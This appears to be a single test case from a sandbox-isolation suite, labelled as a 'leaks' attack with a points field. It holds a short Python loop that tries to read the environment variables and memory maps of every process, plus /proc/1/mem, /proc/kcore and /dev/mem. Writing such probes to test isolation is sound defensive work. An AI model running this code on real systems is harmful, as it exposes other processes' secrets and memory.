# attack: reads the memory and the environment of other processes
# family: leaks
# base: blank
# points: 0
# %% last
import glob
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/maps") + ["/proc/1/mem", "/proc/self/mem", "/proc/kcore", "/dev/mem"]:
    print(open(path, "rb").read(100))
